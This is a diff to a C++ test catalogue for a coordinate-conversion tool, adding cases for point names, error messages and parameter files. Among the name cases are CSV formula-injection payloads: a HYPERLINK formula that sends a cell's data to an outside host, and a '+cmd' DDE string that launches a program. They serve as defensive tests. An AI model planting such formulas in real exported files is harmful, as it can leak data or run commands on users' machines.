@@ -61,8 +61,17 @@
 //  output folder missing           | "写转换后文件错误！" (1)          |
 //  output folder read-only         | "写转换后文件错误！" (1)          |
 //  output is a directory           | "写转换后文件错误！" (1)          |
-//  input also chosen as output     | replaced on success; unchanged   |
-//                                  | after a bad token (1)            |
+//  input also chosen as output,    | kOutputIsInputText (1), nothing  |
+//  by any name (hard or symbolic   | read or written; zelk-cli also   |
+//  link, -, /dev/stdout)           | the --params file as OUTPUT (2)  |
+//  --save, --export-line the same  |                                  | refused (2), nothing written
+//  or an input file                |                                  |
+//  two runs into one hard-linked   | the second waits for the first's |
+//  or >>-appended output           | lock; never mixed                |
+//  SIGTERM after the output is in  | exit status 0, output whole      |
+//  place                           |                                  |
+//  ulimit -f (file size limit)     | "写转换后文件错误！" (1), no      | --save: "cannot write" (1)
+//                                  | temporary file left              |
 //  600 and 100,000 pairs           |                                  | all pairs, estimated (0)
 //  files of 10 and 8 points        |                                  | 8 pairs, silently (0)
 #pragma once
@@ -89,6 +98,10 @@
 #include <vector>
 
 #include "bursa/helmert.h"
+#include "workflow/conversion_run.h"
+#include "workflow/system_file.h"
+#include "workflow/parameter_file.h"
+#include "workflow/point_scan.h"
 #include "bursa/seven_params.h"
 #include "c_locale.h"
 #include "named_chain.h"
@@ -345,5 +358,257 @@ private:
     int m_read = -1;
     std::thread m_writer;
 };
+
+// ---------------------------------------------------------------- names
+
+// Names made to break a writer, each the name of the second point of a csv
+// file (line 3), converted from CGCS2000 Gauss-Kruger on 117 to CGCS2000
+// geodetic into each output format. A format that holds the name writes
+// all three points, and its reader reads the name back; one that cannot
+// refuses the run with NameProblemText for line 3. No point is ever left
+// out.
+struct NameCase {
+    const char* what;
+    std::string field;  // the name column of the csv input
+    std::string name;   // the name read
+    bool plain, dat, csv, kml;  // held by the format
+    std::string kmlName;        // the name KML shows (UTF-8)
+};
+
+inline std::vector<NameCase> NameCases() {
+    return {
+        {"comma", "\"A,B\"", "A,B", true, false, true, true, "A,B"},
+        {"leading blank", "\" lead\"", " lead", false, false, true, true, " lead"},
+        {"trailing blank", "\"trail \"", "trail ", false, false, true, true, "trail "},
+        {"leading #", "\"#7\"", "#7", true, false, true, true, "#7"},
+        {"blank inside", "P 1", "P 1", false, true, true, true, "P 1"},
+        {"tab inside", "\"a\tb\"", "a\tb", false, true, true, true, "a\tb"},
+        {"quote inside", "\"a\"\"b\"", "a\"b", true, true, true, true, "a\"b"},
+        {"formula =", "\"=HYPERLINK(\"\"http://x.cn/?\"\"&A1)\"", "=HYPERLINK(\"http://x.cn/?\"&A1)",
+         true, true, true, true, "=HYPERLINK(\"http://x.cn/?\"&A1)"},
+        {"formula +", "+cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", false, true, true, true,
+         "+cmd|' /C calc'!A0"},
+        {"formula -", "-2+3", "-2+3", true, true, true, true, "-2+3"},
+        {"formula @", "@SUM(1)", "@SUM(1)", true, true, true, true, "@SUM(1)"},
+        {"formula after tab", "\"\t=1\"", "\t=1", false, false, true, true, "\t=1"},
+        {"guarded formula read back", "'=1", "=1", true, true, true, true, "=1"},
+        {"GBK", "\xB1\xB1\xBE\xA9" "1", "\xB1\xB1\xBE\xA9" "1", true, true, true, true,
+         "\xE5\x8C\x97\xE4\xBA\xAC" "1"},
+        {"neither UTF-8 nor GBK", "P\xFF", "P\xFF", true, true, true, false, ""},
+        {"control byte", "x\x01y", "x\x01y", true, true, true, false, ""},
+    };
+}
+
+// The csv file of a NameCase: three points, the case's on line 3.
+inline std::string NameCaseInput(const NameCase& c) {
+    return "name,x,y,H\nK1,4418660.237,440136.927,50\n" + c.field +
+           ",4419000.5,440500.25,51.5\nK3,4419500,441000,52\n";
+}
+
+inline bool HeldBy(const NameCase& c, pointformat::FileFormat format) {
+    switch (format) {
+        case pointformat::FileFormat::Plain: return c.plain;
+        case pointformat::FileFormat::Dat: return c.dat;
+        case pointformat::FileFormat::Csv: return c.csv;
+        case pointformat::FileFormat::Kml: return c.kml;
+    }
+    return false;
+}
+
+// ---------------------------------------------------------------- messages
+
+// Inputs whose message once pointed elsewhere, and outputs that once showed
+// -0.000. Each is converted by the convert button's run and by zelk-cli
+// convert; refusal empty: converted, into output.
+struct MessageCase {
+    const char* what;
+    const char* from;
+    std::vector<std::string> fromOptions;  // zelk-cli: --from-meridian 117, --from-format csv ...
+    const char* to;
+    std::vector<std::string> toOptions;
+    std::string input;
+    std::string refusal;
+    std::string output;
+};
+
+inline std::string Utf16Le(const std::string& ascii) {
+    std::string out = "\xFF\xFE";
+    for (char c : ascii) {
+        out.push_back(c);
+        out.push_back('\0');
+    }
+    return out;
+}
+
+inline std::vector<MessageCase> MessageCases() {
+    const std::vector<std::string> gauss = {"--from-meridian", "117", "--from-format", "csv"};
+    const std::vector<std::string> csvDms = {"--from-format", "csv", "--from-angles", "dms"};
+    return {
+        {"an extra csv field", "cgcs2000-gauss", gauss, "cgcs2000-geodetic", {},
+         "name,x,y,H\nP1,4418660.237,440136.927,0,EXTRA\n",
+         "转换前文件第2行多出第5项“EXTRA”，文件未转换！", ""},
+        {"decimal degrees with an exponent, as Excel writes them", "cgcs2000-geodetic",
+         {"--from-format", "csv", "--from-angles", "degrees"}, "cgcs2000-geodetic",
+         {"--to-format", "csv", "--to-angles", "degrees"}, "name,B,L,H\nP1,1E-3,1.165E+2,0\n", "",
+         "name,B,L,H\nP1,0.001000000,116.500000000,0.000\n"},
+        {"a height of -1e308", "cgcs2000-geodetic", {}, "cgcs2000-gauss", {"--to-meridian", "117"},
+         "39.54 116.18 -1e308\n", "转换前文件第1行的点高程超出±10000公里，请检查数据！", ""},
+        {"a line break inside a quoted field", "cgcs2000-gauss", gauss, "cgcs2000-geodetic", {},
+         "name,x,y,H\n\"P\n1\",4418660.237,440136.927,0\n",
+         "转换前文件第2行第1项的引号到行尾没有闭合（csv文件的字段里不能有换行），文件未转换！", ""},
+        {"a UTF-16 csv", "cgcs2000-gauss", gauss, "cgcs2000-geodetic", {},
+         Utf16Le("name,x,y,H\r\nP1,4418660.237,440136.927,0\r\n"),
+         "转换前文件是UTF-16编码的，请另存为UTF-8或GBK编码，文件未转换！", ""},
+        {"60 seconds", "cgcs2000-geodetic", csvDms, "cgcs2000-xyz", {},
+         "name,B,L,H\nP1,39°59′60″,116°30′00″,0\n",
+         "转换前文件第2行第2项（B）“39°59′60″”的秒不小于60″，不是有效的角度，文件未转换！", ""},
+        {"60 minutes", "cgcs2000-geodetic", csvDms, "cgcs2000-xyz", {},
+         "name,B,L,H\nP1,39°59′00″,116°60′00″,0\n",
+         "转换前文件第2行第3项（L）“116°60′00″”的分不小于60′，不是有效的角度，文件未转换！", ""},
+        {"3-degree zones at 0.5 degrees east", "cgcs2000-geodetic", {}, "cgcs2000-gauss",
+         {"--to-zone", "3"}, "39.3 0.3 0\n",
+         "转换前文件第1行的点转换后的经度不在任何带内（6度带从东经0°起，3度带从东经1°30′起，"
+         "都到东经180°），无法分带！",
+         ""},
+        {"values that round to zero, in DMS", "cgcs2000-geodetic", csvDms, "cgcs2000-geodetic",
+         {"--to-format", "csv", "--to-angles", "dms"},
+         "name,B,L,H\nP1,-0°00′00.000001″,-0°00′00.000001″,-0.0001\n", "",
+         "name,B,L,H\nP1,0°00′00.00000″,0°00′00.00000″,0.000\n"},
+        {"values that round to zero, packed", "cgcs2000-geodetic", {}, "cgcs2000-geodetic", {},
+         "-0.0000000001 -0.0000000001 -0.0001\n", "", "0.000000000 0.000000000 0.000\n"},
+        {"metres that round to zero", "cgcs2000-xyz", {}, "cgcs2000-xyz", {},
+         "-2170976.7 4392637.6 -0.0004\n", "", "-2170976.700 4392637.600 0.000\n"},
+    };
+}
+
+// The request of a MessageCase (files set by the caller), as zelk-cli
+// builds it from the same options.
+inline ConversionRequest MessageRequest(const MessageCase& c) {
+    ConversionRequest request;
+    const auto side = [](const char* name, const std::vector<std::string>& options,
+                         const std::string& prefix, Crs& crs, FileFormats& formats, bool input) {
+        Zoning zoning = Zoning::Meridian;
+        double meridian = 0.0;
+        for (std::size_t i = 0; i + 1 < options.size(); i += 2) {
+            const std::string& option = options[i];
+            const std::string& value = options[i + 1];
+            if (option == prefix + "-meridian") meridian = std::stod(value);
+            if (option == prefix + "-zone") zoning = value == "3" ? Zoning::Zone3 : Zoning::Zone6;
+            if (option == prefix + "-format") {
+                (input ? formats.input : formats.output) = *pointformat::FileFormatFromName(value);
+            }
+            if (option == prefix + "-angles") {
+                (input ? formats.inputAngles : formats.outputAngles) = *AngleFormatFromName(value);
+            }
+        }
+        crs = MakeCrs(*FindSystem(name), zoning, meridian);
+    };
+    side(c.from, c.fromOptions, "--from", request.from, request.formats, true);
+    side(c.to, c.toOptions, "--to", request.to, request.formats, false);
+    request.steps = {Transformation::Seven({})};
+    return request;
+}
+
+// ---------------------------------------------------------------- parameter files
+
+// Parameter files as a surveyor may have them: cut short, or with values
+// seldom meant. Read by --params @FILE (zelk-cli point) and by the
+// desktop program's 打开 (OpenParamsFile): refused with error, or read
+// with a "警告：" line for each value in warnings (none for a good file).
+struct ParamsCase {
+    const char* what;
+    std::string text;
+    std::string error;  // "" when the file reads; else the message after "<file>"
+    std::vector<std::string> warnings;  // each after "警告：<file>："
+};
+
+// A file as estimate --save writes it: header, comment, values, end line.
+inline std::string SavedParams(const SevenParams& p) {
+    Transformation t = Transformation::Seven(p);
+    t.before = SourceCrs();
+    t.after = TargetCrs();
+    return FormatParametersFile(t, "saved by the catalogue");
+}
+
+inline std::vector<ParamsCase> ParamsCases() {
+    const std::string saved = SavedParams(kParams);
+    const std::string handWritten =
+        "before = beijing54-gauss\nbefore-meridian = 117\nafter = wgs84-geodetic\n"
+        "dX0 = -12.5\ndY0 = 129.3\ndZ0 = 48.7\nK = 2.35\nbetaX = -0.42\nbetaY = 0.31\n"
+        "betaZ = 1.87";
+    const auto cutAt = [&](const std::string& text, const std::string& after) {
+        return text.substr(0, text.find(after) + after.size());
+    };
+    const std::string cutShort =
+        ": cut short: the file begins as a saved parameters file but does not end with its last "
+        "line '# end of ZELK transformation parameters', so its last value may be cut too; save "
+        "or copy it again";
+    auto with = [](SevenParams p, double SevenParams::*member, double value) {
+        p.*member = value;
+        return SavedParams(p);
+    };
+    Transformation four;
+    four.model = Transformation::Model::Four;
+    four.four = FourParams{12.5, -3.25, 0.01, 1.5};
+    four.before = SourceCrs();
+    four.after = MakeCrs(*FindSystem("local"));
+    HeightFit fit;
+    fit.status = HeightFit::Status::Ok;
+    fit.model = HeightModel::Plane;
+    fit.a = {1500.0, 2000.5, -0.25, 0, 0, 0};
+    four.height = fit;
+    return {
+        {"saved whole", saved, "", {}},
+        {"saved, cut inside its last value", cutAt(saved, "betaZ = 1.8"), cutShort, {}},
+        {"saved, cut after its last value", cutAt(saved, "betaZ = 1.87\n"), cutShort, {}},
+        {"saved, cut inside its end line", cutAt(saved, "# end of ZELK"), cutShort, {}},
+        {"written by hand, no last line end", handWritten, "", {}},
+        {"saved as UTF-16", Utf16Le(handWritten),
+         ": the file is UTF-16 (or not a text file); save it as UTF-8", {}},
+        {"meridian and zones for one side",
+         "before = beijing54-gauss\nbefore-meridian = 117\nbefore-zone = 3\n"
+         "after = wgs84-geodetic\ndX0 = 0\ndY0 = 0\ndZ0 = 0\nK = 0\nbetaX = 0\nbetaY = 0\n"
+         "betaZ = 0\n",
+         ":3: 'before-meridian' and 'before-zone' exclude each other", {}},
+        {"a scale of 5000 ppm", with(kParams, &SevenParams::K, 5000), "",
+         {"尺度K = 5000 ppm，超出±1000 ppm，请确认参数无误。"}},
+        {"rotations of 3600 and -1000.5 arc-seconds (1000 is within)",
+         SavedParams(SevenParams{-12.5, 129.3, 48.7, 2.35, 3600, -1000.5, 1000}), "",
+         {"旋转betaX = 3600″，超出±1000″，请确认参数无误。",
+          "旋转betaY = -1000.5″，超出±1000″，请确认参数无误。"}},
+        {"a four-parameter scale of 1.5 and a steep height plane",
+         FormatParametersFile(four, ""), "",
+         {"尺度scale = 1.5（尺度变化500000 ppm），超出±1000 ppm，请确认参数无误。",
+          "高程拟合系数a0 = 1500 m，超出±1000 m，请确认参数无误。",
+          "高程拟合系数a1 = 2000.5 m/km，超出±1000 m/km，请确认参数无误。"}},
+    };
+}
+
+// System files (--from @FILE) likewise: one the program saved, cut short, is
+// refused; one written by hand needs no end line.
+struct SystemFileCase {
+    const char* what;
+    std::string text;
+    std::string error;  // "" when the file reads; else the message after "<file>"
+};
+
+inline std::vector<SystemFileCase> SystemFileCases() {
+    Crs city = MakeCrs(*FindSystem("cgcs2000-gauss"), Zoning::Meridian, 114.2);
+    city.name = "city";
+    const std::string saved = FormatSystemFile(city);
+    const std::string cutShort =
+        ": cut short: the file begins as a saved system file but does not end with its last "
+        "line '# end of ZELK coordinate system', so its last value may be cut too; save or "
+        "copy it again";
+    const std::string lastValue = saved.substr(0, saved.rfind(kSystemFileEnd));
+    return {
+        {"saved whole", saved, ""},
+        {"saved, cut inside its last value", lastValue.substr(0, lastValue.size() - 3), cutShort},
+        {"saved, cut inside its end line", saved.substr(0, saved.size() - 5), cutShort},
+        {"written by hand, no last line end", "datum = cgcs2000\nform = gauss\nmeridian = 114.20", ""},
+        {"saved as UTF-16, without its mark", Utf16Le("datum = cgcs2000\n").substr(2),
+         ": the file is UTF-16 (or not a text file); save it as UTF-8"},
+    };
+}
 
 }  // namespace catalogue
